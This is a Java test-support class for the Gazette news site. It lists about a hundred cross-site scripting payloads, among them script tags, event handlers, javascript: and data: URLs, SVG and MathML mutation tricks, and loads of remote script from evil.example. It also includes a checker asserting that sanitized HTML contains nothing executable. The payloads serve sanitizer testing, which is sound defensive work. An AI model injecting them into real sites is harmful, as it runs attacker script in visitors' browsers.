package news.gazette.story;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.Function;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/**
 * Cross-site scripting payloads in the manner of the well-known cheat sheets, written for Gazette: script tags,
 * event handlers, javascript:, vbscript: and data: addresses, SVG and MathML, entity and case tricks, broken and
 * nested tags, CSS expressions and mutation XSS, each also wrapped in ways that try to break out of its context.
 * And the check that a piece of HTML holds nothing executable.
 */
public final class XssCorpus {

    private static final List<String> BASE = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<script src=//evil.example/x.js></script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>/*</script><script>*/alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"java&#x0A;script:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"https://example.org\" onmouseover=\"alert(1)\">x</a>",
            "<a href=x:alert(1)>x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"jav&#97;script:alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" />",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<math href=\"javascript:alert(1)\">CLICKME</math>",
            "<math><maction actiontype=\"statusline#http://x\" xlink:href=\"javascript:alert(1)\">CLICKME</maction></math>",
            "<body onload=alert(1)>",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<form action=\"javascript:alert(1)\"><button>go</button></form>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<input onfocus=alert(1) autofocus>",
            "<select onfocus=alert(1) autofocus>",
            "<textarea onfocus=alert(1) autofocus>",
            "<keygen onfocus=alert(1) autofocus>",
            "<video><source onerror=\"alert(1)\">",
            "<audio src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
            "<div style=\"width: expression(alert(1));\">x</div>",
            "<p style=\"behavior: url(xss.htc);\">x</p>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style>body{background:url(\"javascript:alert(1)\")}</style>",
            "<link rel=stylesheet href=\"javascript:alert(1)\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">",
            "<base href=\"javascript:alert(1)//\">",
            "<table background=\"javascript:alert(1)\">",
            "<td background=\"javascript:alert(1)\">",
            "<div onpointerover=alert(1)>x</div>",
            "<p onclick=alert(1)>x</p>",
            "<strong onmouseover=alert(1)>x</strong>",
            "<em style=x onanimationstart=alert(1)>x</em>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<a href=\"https://example.org/\" target=\"_blank\" rel=\"opener\">x</a>",
            "<img src=\"/media/x.jpg\" onload=\"alert(1)\">",
            "<figure class=\"story-image\" onclick=\"alert(1)\" data-media-id=\"1\"><img src=\"javascript:alert(1)\"></figure>",
            "<figure class=\"embed\"><a href=\"javascript:alert(1)//https://youtu.be/dQw4w9WgXcQ\">x</a></figure>",
            "<figure class=\"embed\"><a href=\"https://youtu.be/dQw4w9WgXcQ\" onclick=\"alert(1)\">x</a></figure>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "</p><script>alert(1)</script><p>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<script>alert(1)</script>]]>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<<script>script>alert(1)<</script>/script>",
            "<scrscriptipt>alert(1)</scrscriptipt>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror\u000B=alert(1)>",
            "<img src=x:alert(1) onerror=eval(src)>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>",
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
            "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
            "<a href=\"\\u006Aavascript:alert(1)\">x</a>",
            "javascript:alert(1)",
            "<frameset onload=alert(1)>");

    private static final List<Function<String, String>> WRAPPINGS = List.of(
            payload -> payload,
            payload -> "<p>before " + payload + " after</p>",
            payload -> "<blockquote><p>" + payload + "</p></blockquote>",
            payload -> "<ul><li>" + payload + "</li></ul>",
            payload -> "<h2>" + payload + "</h2>");

    private XssCorpus() {
    }

    /** Every payload in every wrapping. */
    public static List<String> payloads() {
        Set<String> all = new LinkedHashSet<>();
        for (String base : BASE) {
            for (Function<String, String> wrap : WRAPPINGS) {
                all.add(wrap.apply(base));
            }
        }
        return new ArrayList<>(all);
    }

    /** The payloads without wrappings, for one-line fields (headline, caption, embed address). */
    public static List<String> bare() {
        return BASE;
    }

    /**
     * Fails when the HTML holds anything that can run: a script, frame, object or form element, an event handler, a
     * style, or an address with a script or data scheme. {@code ownScript} lets through the scripts a Gazette page
     * carries itself (its static files and JSON-LD).
     */
    public static void assertNothingExecutable(String html, boolean ownScripts, String payload) {
        Document document = Jsoup.parse(html);
        for (Element element : document.getAllElements()) {
            String tag = element.normalName();
            if (tag.equals("script") && ownScripts && (element.attr("src").startsWith("/assets/")
                    || element.attr("src").startsWith("/newsroom/tinymce/")
                    || element.attr("type").equals("application/ld+json"))) {
                continue;
            }
            if (tag.equals("svg") && ownScripts && element.attr("focusable").equals("false")
                    && element.closest(".story-body, .story-headline, .standfirst, figure") == null) {
                // The page's own icons: Gazette's templates, outside anything an author wrote.
                continue;
            }
            assertThat(Set.of("script", "iframe", "object", "embed", "frame", "frameset", "applet", "base", "form",
                    "svg", "math", "template", "style", "meta").contains(tag) && !(ownScripts && (tag.equals("meta") || tag.equals("form"))))
                    .as("<%s> from %s", tag, payload).isFalse();
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as("attribute on <%s> from %s", tag, payload).doesNotStartWith("on");
                if (!ownScripts) {
                    assertThat(name).as("style from %s", payload).isNotEqualTo("style");
                }
                String value = attribute.getValue().replaceAll("[\\s\\u0000-\\u001f]", "").toLowerCase(Locale.ROOT);
                if (Set.of("href", "src", "action", "formaction", "xlink:href", "background", "data", "srcdoc").contains(name)) {
                    assertThat(value).as("%s on <%s> from %s", name, tag, payload)
                            .doesNotStartWith("javascript:").doesNotStartWith("vbscript:").doesNotStartWith("data:");
                }
            }
        }
    }
}
